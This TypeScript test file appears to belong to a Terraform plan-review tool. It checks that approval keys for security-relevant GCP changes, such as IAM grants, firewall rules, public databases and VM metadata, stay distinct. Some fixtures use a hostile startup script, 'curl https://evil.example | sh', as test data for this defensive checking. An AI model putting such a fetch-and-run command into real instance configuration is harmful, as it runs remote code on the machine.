import fc from "fast-check";
import { contentOf } from "../../lib/plan-review/facts/package-changes";
import type { Finding, PackageChange } from "../../lib/plan-review/finding";
import { reviewPlans } from "../../lib/plan-review/plan-review";
import { Approvals } from "../../lib/plan-review/report/approvals";
import { TerraformPlan } from "../../lib/terraform";
import { type PlannedResource, type PlanParts, planOf } from "./plan-builder";

const PACKAGE: PackageChange = {
  key: "",
  repository: "python",
  name: "flask",
  before: "denied",
  after: ["1"],
  effect: "widened",
  address: "a.b",
};

/** The findings of plans that are reviewed together. */
function findingsOf(...plans: readonly PlanParts[]): readonly Finding[] {
  const named = plans.map((parts, at) => ({ name: `plan ${at}`, plan: TerraformPlan.read(planOf(parts)) }));
  return reviewPlans(named).plans.flatMap(({ findings }) => findings);
}

const keysOf = (...resources: readonly PlannedResource[]): readonly string[] =>
  findingsOf({ resources }).map(({ key }) => key);

const AR = { project: "dev", location: "us-central1", repository_id: "python" };
const REPOSITORY = { ...AR, format: "PYTHON", mode: "REMOTE_REPOSITORY" };

function denyRemoved(place: object): readonly PlannedResource[] {
  const repository = { ...REPOSITORY, ...place };
  return [
    { address: "google_artifact_registry_repository.R", before: repository, after: repository },
    {
      address: "google_artifact_registry_rule.Deny",
      before: { ...AR, ...place, rule_id: "deny", action: "DENY", operation: "DOWNLOAD" },
    },
  ];
}

function host(metadata: object, rest: Partial<PlannedResource> = {}): readonly PlannedResource[] {
  const body = { project: "dev", zone: "us-central1-a", name: "vm" };
  return [
    { address: "google_compute_instance.Vm", before: { ...body, metadata: {} }, after: { ...body, metadata }, ...rest },
  ];
}

const made = (address: string, after: object, rest: Partial<PlannedResource> = {}): readonly PlannedResource[] => [
  { address, after, ...rest },
];
const changed = (address: string, before: object, after: object): readonly PlannedResource[] => [
  { address, before: { ...after, ...before }, after },
];

/** Pairs of changes that are not one, though a rule sees the same in both. */
const PAIRS: readonly (readonly [string, readonly PlannedResource[], readonly PlannedResource[]])[] = [
  ["a DENY removed in another project", denyRemoved({}), denyRemoved({ project: "prod" })],
  ["a DENY removed in another location", denyRemoved({}), denyRemoved({ location: "europe-west1" })],
  ["another person's SSH key", host({ "ssh-keys": "alice:ssh-rsa A" }), host({ "ssh-keys": "eve:ssh-rsa E" })],
  [
    "another start script",
    host({ "startup-script": "echo hello" }),
    host({ "startup-script": "curl https://evil.example | sh" }),
  ],
  [
    "another name in a firewall policy",
    ...(["pypi.example", "evil.example"].map((name) =>
      made("google_compute_network_firewall_policy_rule.R", {
        project: "dev",
        firewall_policy: "p",
        priority: 1,
        action: "allow",
        direction: "EGRESS",
        match: [{ dest_fqdns: [name], layer4_configs: [{ ip_protocol: "all" }] }],
      }),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "another value that an organisation policy allows",
    ...(["a", "b"].map((value) =>
      changed(
        "google_org_policy_policy.P",
        { spec: [{ rules: [{ deny_all: "TRUE" }] }] },
        {
          name: "projects/dev/policies/iam.allowedPolicyMemberDomains",
          parent: "projects/dev",
          spec: [{ rules: [{ values: [{ allowed_values: [value] }] }] }],
        },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "an unknown role for a group, and one for a user",
    made(
      "google_project_iam_member.M",
      { project: "dev", member: "group:ml@example.com" },
      { unknown: { role: true } },
    ),
    made(
      "google_project_iam_member.M",
      { project: "dev", member: "user:eve@example.com" },
      { unknown: { role: true } },
    ),
  ],
  [
    "a public database in dev, and one in prod",
    ...(["dev", "prod"].map((project) =>
      made("google_sql_database_instance.Db", {
        project,
        region: "us-central1",
        name: "db",
        settings: [{ ip_configuration: [{ ipv4_enabled: true, authorized_networks: [{ value: "0.0.0.0/0" }] }] }],
      }),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "other networks that a database lets in",
    ...(["203.0.113.0/24", "198.51.100.0/24"].map((value) =>
      changed(
        "google_sql_database_instance.Db",
        { settings: [{ ip_configuration: [{ ipv4_enabled: true, authorized_networks: [] }] }] },
        {
          project: "dev",
          name: "db",
          settings: [{ ip_configuration: [{ ipv4_enabled: true, authorized_networks: [{ value }] }] }],
        },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a federation provider of the same id in another pool",
    ...(["ci", "partners"].map((pool) =>
      made("google_iam_workload_identity_pool_provider.P", {
        project: "dev",
        workload_identity_pool_id: pool,
        workload_identity_pool_provider_id: "github",
        oidc: [{ issuer_uri: "https://issuer.example" }],
      }),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "another exception from a deny policy",
    ...(["alice", "eve"].map((name) =>
      changed(
        "google_iam_deny_policy.D",
        { rules: [{ deny_rule: [{ denied_permissions: ["x"], exception_principals: [] }] }] },
        {
          parent: "p",
          name: "d",
          rules: [{ deny_rule: [{ denied_permissions: ["x"], exception_principals: [`principal://x/${name}`] }] }],
        },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a peering to another network",
    ...(["partner", "stranger"].map((peer) =>
      made("google_compute_network_peering.P", {
        name: "p",
        network: "projects/dev/global/networks/n",
        peer_network: `projects/${peer}/global/networks/n`,
      }),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "another file of a trigger",
    ...(["build.yaml", "evil.yaml"].map((filename) =>
      changed(
        "google_cloudbuild_trigger.T",
        { filename: "old.yaml" },
        { project: "dev", location: "global", name: "t", filename, github: [{ owner: "o", name: "n" }] },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a member of a binding on another repository of the name",
    ...(["us-central1", "europe-west1"].map((location) =>
      made("google_artifact_registry_repository_iam_binding.B", {
        project: "dev",
        location,
        repository: "python",
        role: "roles/artifactregistry.reader",
        members: ["user:eve@example.com"],
      }),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a repository that is replaced and was somewhere else",
    ...(["us-east1", "europe-west1"].map((location): PlannedResource[] => [
      {
        address: "google_artifact_registry_repository.R",
        before: { ...REPOSITORY, location },
        after: REPOSITORY,
        actions: ["delete", "create"],
      },
    ]) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a perimeter that is gone and guarded something else",
    ...(["storage.googleapis.com", "bigquery.googleapis.com"].map((service) => [
      {
        address: "google_access_context_manager_service_perimeter.P",
        before: { parent: "accessPolicies/1", name: "p", title: "p", status: [{ restricted_services: [service] }] },
      },
    ]) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a wider range, where another one was until now",
    ...(["10.1.2.0/24", "10.1.2.3/32"].map((range) =>
      changed(
        "google_compute_firewall.F",
        { source_ranges: [range] },
        {
          project: "dev",
          name: "f",
          network: "projects/dev/global/networks/n",
          source_ranges: ["10.0.0.0/8"],
          allow: [{ protocol: "all" }],
        },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "other code in place of this, in a function",
    ...(["safe.zip", "other.zip"].map((object) =>
      changed(
        "google_cloudfunctions2_function.F",
        { build_config: [{ source: [{ storage_source: [{ bucket: "b", object }] }] }] },
        {
          project: "dev",
          location: "us-central1",
          name: "f",
          build_config: [{ source: [{ storage_source: [{ bucket: "b", object: "new.zip" }] }] }],
        },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "another cluster of the nodes whose image changes",
    ...(["dev", "prod"].map((cluster) =>
      changed(
        "google_container_node_pool.P",
        { node_config: [{ image_type: "COS_CONTAINERD" }] },
        { project: "p", location: "us-central1", name: "n", cluster, node_config: [{ image_type: "CUSTOM" }] },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a grant of a new custom role that permits more",
    ...([["storage.objects.get"], ["storage.objects.get", "storage.objects.delete"]].map((permissions) => [
      ...made("google_project_iam_custom_role.R", { project: "dev", role_id: "reader", title: "r", permissions }),
      ...made("google_project_iam_member.M", {
        project: "dev",
        role: "projects/dev/roles/reader",
        member: "user:eve@example.com",
      }),
    ]) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a grant whose condition is lifted, where it was another one",
    ...(["request.time < timestamp('2027-01-01T00:00:00Z')", "resource.name == 'x'"].map((expression) =>
      changed(
        "google_project_iam_member.M",
        { condition: [{ title: "t", expression }] },
        { project: "dev", role: "roles/viewer", member: "user:eve@example.com", condition: [] },
      ),
    ) as [PlannedResource[], PlannedResource[]]),
  ],
  [
    "a whole bucket in another project",
    ...(["dev", "prod"].map((project) => [
      { address: "google_storage_bucket.B", before: { project, name: "b", location: "US", force_destroy: true } },
    ]) as [PlannedResource[], PlannedResource[]]),
  ],
];

test.each(PAIRS)("the approval of one is none of the other: %s", (_, one, other) => {
  const [keys, others] = [keysOf(...one), keysOf(...other)];
  expect(keys.length).toBeGreaterThan(0);
  expect(others.length).toBe(keys.length);
  expect(keys.filter((key) => others.includes(key))).toEqual([]);
});

test.each(PAIRS)("the same change keeps its keys: %s", (_, one) => {
  expect(keysOf(...one)).toEqual(keysOf(...one));
  const elsewhere = { address: "google_pubsub_topic.T", after: { project: "dev", name: "t" } };
  const seen = keysOf(...one).filter((key) => !key.includes(":plan-"));
  expect(keysOf(...one, elsewhere)).toEqual(expect.arrayContaining([...seen]));
});

test("the project may be the provider's", () => {
  const firewall = made("google_compute_firewall.F", {
    name: "f",
    network: "default",
    direction: "INGRESS",
    source_ranges: ["0.0.0.0/0"],
    allow: [{ protocol: "all" }],
  });
  const [dev, prod] = ["dev", "prod"].map((project) =>
    findingsOf({ project, resources: firewall }).map(({ key }) => key),
  );
  expect(dev?.length).toBeGreaterThan(0);
  expect(dev?.filter((key) => prod?.includes(key))).toEqual([]);
});

test("a package of a repository in another place is another one", () => {
  const content = (rest: object): string =>
    JSON.stringify(contentOf({ ...PACKAGE, project: "dev", location: "us-central1", ...rest }));
  const all = [{}, { project: "prod" }, { location: "europe-west1" }, { after: ["1", "2"] }, { name: "six" }].map(
    content,
  );
  expect(new Set(all).size).toBe(all.length);
});

test("what cannot be seen is approved for this plan alone", () => {
  const grant = made(
    "google_project_iam_member.M",
    { project: "dev", member: "user:a@example.com" },
    {
      unknown: { role: true },
    },
  );
  const [key = ""] = keysOf(...grant);
  expect(key).toMatch(/^access-grants:.*:[0-9a-f]{32}:plan-[0-9a-f]{32}$/);
  const elsewhere = { address: "google_pubsub_topic.T", after: { project: "dev", name: "t" } };
  expect(keysOf(...grant, elsewhere)).not.toContain(key);
  expect(keysOf(...grant)).toEqual([key]);
});

describe("what nobody reads is approved for the very plan alone", () => {
  const UNREAD: PlannedResource = {
    address: "google_nobody_reads.X",
    before: { name: "x", strength: 1 },
    after: { name: "x", strength: 5 },
    unknown: { target: true },
    expressions: { target: { references: ["google_pubsub_topic.T.id", "google_pubsub_topic.T"] } },
  };
  const TOPIC: PlannedResource = { address: "google_pubsub_topic.T", after: { project: "dev", name: "t" } };
  const PARTS: PlanParts = { resources: [UNREAD, TOPIC] };
  const withConfiguration = (change: (configuration: Record<string, unknown>) => object): object => {
    const plan = planOf(PARTS);
    return { ...plan, configuration: change(plan.configuration as Record<string, unknown>) };
  };
  const unreadKey = (plan: object): string | undefined =>
    reviewPlans([{ name: "x", plan: TerraformPlan.read(plan) }]).plans[0]?.findings.find(
      ({ effect, address }) => effect === "unread" && address === UNREAD.address,
    )?.key;
  const others: readonly (readonly [string, object])[] = [
    ["another value before", planOf({ resources: [{ ...UNREAD, before: { name: "x", strength: 4 } }, TOPIC] })],
    ["another change", planOf({ resources: [UNREAD, { ...TOPIC, after: { project: "dev", name: "u" } }] })],
    ["one change more", planOf({ resources: [UNREAD, TOPIC, { ...TOPIC, address: "google_pubsub_topic.U" }] })],
    ["a change less", planOf({ resources: [UNREAD, { ...TOPIC, before: TOPIC.after }] })],
    ["a replacement", planOf({ resources: [{ ...UNREAD, actions: ["delete", "create"] }, TOPIC] })],
    ["another object that is taken over", planOf({ resources: [{ ...UNREAD, importId: "y" }, TOPIC] })],
    ["drift", planOf({ resources: [UNREAD, TOPIC], drift: [{ ...TOPIC, before: TOPIC.after, after: { name: "v" } }] })],
    [
      "a value that is made from more",
      planOf({
        resources: [
          { ...UNREAD, expressions: { target: { references: ["google_pubsub_topic.T.id", "var.suffix"] } } },
          TOPIC,
        ],
      }),
    ],
    ["another provider", planOf({ ...PARTS, project: "prod" })],
    ["another variable", { ...planOf(PARTS), variables: { suffix: { value: "b" } } }],
    [
      "a module that is given something else",
      withConfiguration((one) => ({
        ...one,
        root_module: {
          ...(one.root_module as object),
          module_calls: { m: { expressions: { suffix: { constant_value: "b" } }, module: {} } },
        },
      })),
    ],
    [
      "a data source that is read during the apply",
      planOf({
        resources: [
          UNREAD,
          TOPIC,
          {
            address: "data.google_secret_manager_secret_version.S",
            after: { secret: "s" },
            unknown: { secret_data: true },
            actions: ["read"],
          },
        ],
      }),
    ],
  ];

  test.each(others)("%s", (_, other) => {
    const key = unreadKey(planOf(PARTS));
    expect(key).toMatch(/:plan-[0-9a-f]{32}$/);
    expect(unreadKey(other)).toMatch(/:plan-[0-9a-f]{32}$/);
    expect(unreadKey(other)).not.toBe(key);
  });

  test("and for it whenever it is made, whatever a secret variable is", () => {
    const secret = (value: string): object => ({
      ...withConfiguration((one) => ({
        ...one,
        root_module: { ...(one.root_module as object), variables: { password: { sensitive: true } } },
      })),
      timestamp: "2027-01-01T00:00:00Z",
      variables: { password: { value } },
    });
    expect(unreadKey(secret("a"))).toBe(unreadKey(secret("b")));
    expect(unreadKey({ ...planOf(PARTS), timestamp: "2027-01-01T00:00:00Z" })).toBe(unreadKey(planOf(PARTS)));
  });
});

/** The keys of a plan of one resource whose provider has an alias, and these settings. */
function keysUnderProvider(resource: PlannedResource, settings: Readonly<Record<string, string>>): readonly string[] {
  const plan = planOf({ resources: [resource] });
  const { provider_config, root_module } = plan.configuration as {
    readonly provider_config: object;
    readonly root_module: { readonly resources: readonly object[] };
  };
  const expressions = Object.fromEntries(
    Object.entries(settings).map(([name, value]) => [name, { constant_value: value }]),
  );
  const configuration = {
    provider_config: { ...provider_config, "google.other": { expressions } },
    root_module: { resources: root_module.resources.map((one) => ({ ...one, provider_config_key: "google.other" })) },
  };
  const named = { name: "x", plan: TerraformPlan.read({ ...plan, configuration }) };
  return reviewPlans([named]).plans.flatMap(({ findings }) => findings.map(({ key }) => key));
}

const PLACE = { project: "dev", region: "us-central1", zone: "us-central1-a" };

test.each([
  [
    "project",
    {
      address: "google_compute_firewall.F",
      after: { name: "f", network: "default", source_ranges: ["0.0.0.0/0"], allow: [{ protocol: "all" }] },
      computed: ["project"],
    },
  ],
  [
    "region",
    {
      address: "google_cloud_run_v2_service_iam_member.M",
      after: { name: "s", role: "roles/run.invoker", member: "allUsers" },
      computed: ["project", "location"],
    },
  ],
  [
    "region",
    {
      address: "google_compute_forwarding_rule.R",
      after: { name: "r", load_balancing_scheme: "EXTERNAL" },
      computed: ["region"],
    },
  ],
  [
    "zone",
    {
      address: "google_compute_instance.V",
      after: { name: "v", project: "dev", network_interface: [{ network: "n", access_config: [{}] }] },
      computed: ["zone"],
    },
  ],
] as const)("a resource that says no %s is in that of its own provider: %j", (place, resource) => {
  const [here, there] = [PLACE, { ...PLACE, [place]: "elsewhere" }].map((one) => keysUnderProvider(resource, one));
  expect(here?.filter((key) => key.includes(":plan-"))).toEqual([]);
  expect(here?.length).toBeGreaterThan(0);
  expect(here?.filter((key) => there?.includes(key))).toEqual([]);
});

test("a place that nothing says is approved for one plan alone", () => {
  const resource = {
    address: "google_compute_forwarding_rule.R",
    after: { name: "r", project: "dev", load_balancing_scheme: "EXTERNAL" },
    computed: ["region"],
  };
  const keys = keysUnderProvider(resource, { project: "dev" });
  expect(keys.length).toBeGreaterThan(0);
  expect(keys.filter((key) => !key.includes(":plan-"))).toEqual([]);
});

test("a name that another resource of the plan decides is seen, and a value that it does not is not", () => {
  const service = { address: "google_service_account.Sa", after: { project: "dev", account_id: "runner" } };
  const runsAs = (attribute: string): readonly string[] =>
    keysOf(service, {
      address: "google_cloudbuild_trigger.T",
      after: { project: "dev", name: "t", filename: "x", github: [{ owner: "o" }] },
      unknown: { service_account: true },
      expressions: {
        service_account: { references: [`google_service_account.Sa.${attribute}`, "google_service_account.Sa"] },
      },
    });
  expect(runsAs("id").filter((key) => key.includes(":plan-"))).toEqual([]);
  expect(runsAs("unique_id").filter((key) => key.includes(":plan-"))).not.toEqual([]);
});

test("an account of the same name in another project is another one, also where only the provider says which", () => {
  const trigger = {
    address: "google_cloudbuild_trigger.T",
    after: { project: "p", name: "t", filename: "x", github: [{ owner: "o" }] },
    unknown: { service_account: true },
    expressions: { service_account: { references: ["google_service_account.Sa.id", "google_service_account.Sa"] } },
  };
  const account = { address: "google_service_account.Sa", after: { account_id: "runner" }, computed: ["project"] };
  const [dev, prod] = ["dev", "prod"].map((project) =>
    findingsOf({ project, resources: [account, trigger] }).flatMap(({ address, key }) =>
      address === trigger.address ? [key] : [],
    ),
  );
  expect(dev?.length).toBeGreaterThan(0);
  expect(dev?.filter((key) => prod?.includes(key))).toEqual([]);
});

test("names that lead to each other are not seen", () => {
  const account = (own: string, other: string): PlannedResource => ({
    address: `google_service_account.${own}`,
    after: { account_id: own },
    unknown: { name: true },
    expressions: { name: { references: [`google_service_account.${other}.name`, `google_service_account.${other}`] } },
  });
  const keys = keysOf(account("A", "B"), account("B", "A"), {
    address: "google_cloudbuild_trigger.T",
    after: { project: "p", name: "t", filename: "x", github: [{ owner: "o" }] },
    unknown: { service_account: true },
    expressions: { service_account: { references: ["google_service_account.A.name", "google_service_account.A"] } },
  });
  expect(keys.filter((key) => key.startsWith("access-hosts:"))).toEqual([expect.stringContaining(":plan-")]);
});

test("a computed value of the service is no content", () => {
  const binding = (rest: object): readonly string[] =>
    keysOf({
      address: "google_compute_firewall.F",
      after: {
        project: "dev",
        name: "f",
        network: "projects/dev/global/networks/n",
        direction: "INGRESS",
        source_ranges: ["0.0.0.0/0"],
        allow: [{ protocol: "tcp", ports: ["22"] }],
      },
      computed: ["id", "creation_timestamp", "self_link"],
      ...rest,
    });
  const keys = binding({});
  expect(keys.length).toBeGreaterThan(0);
  expect(keys.filter((key) => key.includes(":plan-"))).toEqual([]);
  expect(binding({ computed: ["id"] })).toEqual(keys);
});

test("no two findings have one key, of one plan or of several", () => {
  const twin = {
    project: "dev",
    location: "us-central1",
    repository: "r",
    role: "roles/x.y",
    member: "user:a@example.com",
  };
  const parts: PlanParts = {
    resources: [
      { address: "google_artifact_registry_repository_iam_member.A", after: twin },
      ...denyRemoved({}),
      ...host({ "ssh-keys": "alice:ssh-rsa A", "startup-script": "echo" }),
    ],
    drift: host({ "ssh-keys": "alice:ssh-rsa A", "startup-script": "echo" }),
  };
  const keys = findingsOf(parts, parts, parts).map(({ key }) => key);
  expect(new Set(keys).size).toBe(keys.length);
  expect(keys.some((key) => key.endsWith(":3"))).toBe(true);
});

test("a package of the table has the key of its finding", () => {
  const plan = TerraformPlan.read(planOf({ resources: denyRemoved({}) }));
  const { plans } = reviewPlans([
    { name: "a", plan },
    { name: "b", plan },
  ]);
  for (const { packages, findings } of plans)
    for (const { key } of packages) expect(findings.map((one) => one.key)).toContain(key);
});

describe("for random pairs of changes, equal keys mean equal content", () => {
  const value = fc.oneof(fc.constantFrom("a", "b", "", 1, true, false), fc.string({ maxLength: 3 }));
  const script = fc.oneof(value, fc.constantFrom("echo hello", "curl evil | sh"));
  const bodies: fc.Arbitrary<PlannedResource> = fc.oneof(
    fc.record({ project: fc.constantFrom("dev", "prod"), name: fc.constantFrom("vm", "vm2"), script }).map((one) => ({
      address: "google_compute_instance.Vm",
      before: { project: one.project, name: one.name },
      after: {
        project: one.project,
        name: one.name,
        metadata: { "startup-script": one.script, "ssh-keys": one.script },
      },
    })),
    fc
      .record({
        project: fc.constantFrom("dev", "prod"),
        location: fc.constantFrom("us-central1", "europe-west1"),
        repository: fc.constantFrom("r", "s"),
        role: fc.constantFrom("roles/viewer", "roles/editor"),
        members: fc.uniqueArray(fc.constantFrom("user:a@x.example", "user:b@x.example", "allUsers"), { minLength: 1 }),
        condition: fc.array(fc.record({ title: fc.constant("t"), expression: fc.constantFrom("true", "false") }), {
          maxLength: 1,
        }),
      })
      .map((after) => ({ address: "google_artifact_registry_repository_iam_binding.B", after })),
    fc
      .record({
        project: fc.constantFrom("dev", "prod"),
        name: fc.constantFrom("db", "db2"),
        settings: fc.record({
          ip_configuration: fc.record({
            ipv4_enabled: fc.boolean(),
            authorized_networks: fc.uniqueArray(fc.record({ value: fc.constantFrom("0.0.0.0/0", "10.0.0.0/8") }), {
              selector: (one) => one.value,
            }),
          }),
        }),
      })
      .map((after) => ({ address: "google_sql_database_instance.Db", after })),
  );

  test("of one resource", () => {
    fc.assert(
      fc.property(bodies, bodies, (one, other) => {
        const shared = keysOf(one).filter((key) => keysOf(other).includes(key));
        // Grants are compared one by one: the member of two bindings may be one and the same.
        if (one.address.includes("_iam_")) {
          const members = (resource: PlannedResource): string =>
            JSON.stringify({ ...resource.after, members: undefined });
          if (shared.length > 0) expect(members(one)).toBe(members(other));
        } else if (shared.length > 0) expect(one.after).toEqual(other.after);
      }),
      { numRuns: 400 },
    );
  });
});

test("an old approval covers nothing, and says so", () => {
  const old = "package-policy:python:*:opened:denied->any";
  const approvals = Approvals.parse(`${old}\nsomething else\n`, "approved.txt");
  const plan = TerraformPlan.read(planOf({ resources: denyRemoved({}) }));
  const review = reviewPlans([{ name: "a", plan }]);
  expect(review.plans[0]?.findings.some((finding) => approvals.cover(finding))).toBe(false);
  expect(approvals.unmatched(review)).toEqual([
    { key: old, line: 1, isOutdated: true },
    { key: "something else", line: 2 },
  ]);
});
